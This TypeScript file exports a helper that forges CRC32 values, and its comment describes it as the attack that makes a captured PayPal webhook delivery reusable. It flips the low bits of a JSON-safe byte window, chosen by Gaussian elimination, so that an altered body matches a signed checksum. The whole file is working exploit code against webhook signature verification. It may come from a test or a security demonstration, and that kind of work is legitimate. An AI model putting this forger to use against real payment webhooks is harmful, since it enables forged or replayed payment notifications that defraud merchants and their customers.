import { crc32 } from 'node:zlib';

/**
 * CRC32 forging, the attack that makes a captured PayPal delivery reusable:
 * the signature covers crc32(body), and CRC32 is affine over GF(2) (for
 * inputs of one length, crc(a ^ b ^ c) = crc(a) ^ crc(b) ^ crc(c)), so flipping
 * chosen bits of a window changes the CRC by the XOR of each bit's own
 * effect. Collect those 32-bit effects, solve for the bits whose effects XOR
 * to `crc(data) ^ target` by Gaussian elimination, flip them.
 *
 * Only the low 4 bits of each window byte are flipped: a window of '`'
 * (0x60) stays within '`a-o', so it can sit inside a JSON string. 12 bytes
 * give 48 unknowns for 32 equations, enough for a full rank in practice.
 */
export function forgeCrc32(data: Buffer, window: { offset: number; length: number }, target: number): Buffer {
  const base = crc32(data) >>> 0;
  const bits: { byte: number; mask: number; effect: number }[] = [];
  for (let i = 0; i < window.length; i++) {
    for (let b = 0; b < 4; b++) {
      const flipped = Buffer.from(data);
      const at = window.offset + i;
      flipped[at] = (flipped[at] ?? 0) ^ (1 << b);
      bits.push({ byte: at, mask: 1 << b, effect: ((crc32(flipped) >>> 0) ^ base) >>> 0 });
    }
  }

  // basis[p]: a combination of bits (as a bigint set) whose effects XOR to a value with highest set bit p.
  const basis = new Map<number, { value: number; bits: bigint }>();
  bits.forEach((bit, index) => {
    let value = bit.effect;
    let set = 1n << BigInt(index);
    for (let p = 31; p >= 0 && value !== 0; p--) {
      if (((value >>> p) & 1) === 0) continue;
      const row = basis.get(p);
      if (row === undefined) {
        basis.set(p, { value, bits: set });
        return;
      }
      value = (value ^ row.value) >>> 0;
      set ^= row.bits;
    }
  });

  let want = (base ^ (target >>> 0)) >>> 0;
  let chosen = 0n;
  for (let p = 31; p >= 0; p--) {
    if (((want >>> p) & 1) === 0) continue;
    const row = basis.get(p);
    if (row === undefined) throw new Error('CRC32 forge: window too small for this target (rank below 32)');
    want = (want ^ row.value) >>> 0;
    chosen ^= row.bits;
  }

  const forged = Buffer.from(data);
  bits.forEach((bit, index) => {
    if ((chosen >> BigInt(index)) & 1n) forged[bit.byte] = (forged[bit.byte] ?? 0) ^ bit.mask;
  });
  if (crc32(forged) >>> 0 !== target >>> 0) throw new Error('CRC32 forge: result does not match (bug in the helper)');
  return forged;
}
